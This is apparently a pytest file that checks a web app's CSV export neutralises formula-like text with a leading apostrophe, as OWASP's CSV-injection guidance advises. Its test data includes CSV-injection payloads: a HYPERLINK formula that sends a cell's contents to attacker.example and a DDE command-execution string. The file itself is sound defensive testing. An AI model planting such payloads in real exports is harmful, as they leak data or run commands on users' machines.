"""Issue 15, defect 10: text a spreadsheet would run as a formula is exported neutralised
(a leading `'`, as OWASP's "CSV Injection" advises), and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from app.api.tabular import neutralise_formula

HOSTILE = [
    '=HYPERLINK("https://attacker.example/?d="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
]


def rows(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


@pytest.mark.parametrize("title", HOSTILE)
def test_an_objective_titled_like_a_formula_is_exported_as_text(api: Any, title: str) -> None:
    api.client.post("/api/v1/objectives", headers=api.admin, json={"title": title})

    [row] = rows(api.client.get("/api/v1/objectives", headers=api.read, params={"format": "csv"}))

    assert row["title"] == "'" + title
    assert api.client.get("/api/v1/objectives", headers=api.read).json()[0]["title"] == title


def test_negative_numbers_stay_numbers_and_notes_are_neutralised(api: Any) -> None:
    api.client.post(
        "/api/v1/kpis",
        headers=api.admin,
        json={"key": "net_promoter", "name": "NPS", "min": -100, "max": 100},
    )
    api.client.post(
        "/api/v1/kpis/net_promoter/observations",
        headers=api.admin,
        json=[
            {"date": "2025-01-31", "value": -3.5, "note": "=1+1"},
            {"date": "2025-02-28", "value": -12, "note": "-12 after the outage"},
        ],
    )

    exported = rows(
        api.client.get(
            "/api/v1/kpis/net_promoter/observations", headers=api.read, params={"format": "csv"}
        )
    )

    assert [(r["value"], r["note"]) for r in exported] == [
        ("-3.5", "'=1+1"),
        ("-12.0", "'-12 after the outage"),
    ]


@pytest.mark.parametrize(
    ("text", "exported"),
    [
        ("-3.5", "-3.5"),  # a number written as text is no formula
        ("-1e-5", "-1e-5"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("a=b", "a=b"),  # only the first character matters
        ("", ""),
    ],
)
def test_only_text_starting_like_a_formula_changes(text: str, exported: str) -> None:
    assert neutralise_formula(text) == exported
